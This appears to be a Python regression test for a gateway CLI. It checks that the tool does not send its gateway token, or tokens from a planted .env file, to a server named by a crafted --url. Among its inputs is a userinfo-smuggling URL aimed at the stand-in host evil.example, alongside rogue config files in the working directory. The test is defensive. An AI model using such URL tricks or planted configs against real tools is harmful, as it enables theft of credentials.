"""A command sends the token of the local gateway to a server that somebody else names."""
import os
import socket
import subprocess
import tempfile
import threading

from common import *


def attack():
    with shared() as gateway:
        with tempfile.TemporaryDirectory() as folder, socket.create_server(("127.0.0.1", 0)) as server:
            seen = []

            def serve():
                while True:
                    try:
                        link, _ = server.accept()
                    except OSError:
                        return
                    with link:
                        seen.append(link.recv(65536))
                        link.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")

            threading.Thread(target=serve, daemon=True).start()
            port = server.getsockname()[1]
            for name, text in ((".env", "PORTCULLIS_GATEWAY_TOKEN=from-dot-env\nPORTCULLIS_GATEWAY_PORT=%d\nOPENCLAW_GATEWAY_TOKEN=from-dot-env\n" % port),
                               ("gateway.conf", "gateway.port = %d\n" % port), ("openclaw.json", '{"gateway":{"port":%d}}' % port)):
                with open(os.path.join(folder, name), "w", encoding="utf-8") as out:
                    out.write(text)
            local = ["--config", gateway.config, "--state-dir", gateway.state]
            for command in ([*local, "status", "--url", "http://127.0.0.1:%d" % port], [*local, "invoke", "echo", "--url", "http://localhost:%d" % port],
                            [*local, "sessions", "list", "--url", "http://127.0.0.1:%d@evil.example" % port],
                            [*local, "status", "--url", "http://192.0.2.1:%d" % port]):
                subprocess.run([HOME + "/bin/portcullis", *command], cwd=folder, capture_output=True, timeout=20, check=False,
                               env={key: value for key, value in os.environ.items() if not key.endswith("_TOKEN")})
            sent = b"".join(seen)
            require(TOKEN.encode() not in sent, "the token of the configuration went to another server")
            require(b"from-dot-env" not in sent, "a .env of the working directory is obeyed")
            require(seen, "the commands asked nobody")
    return "another server gets no token that was not meant for it, and a strange working directory is not read"


run(attack)
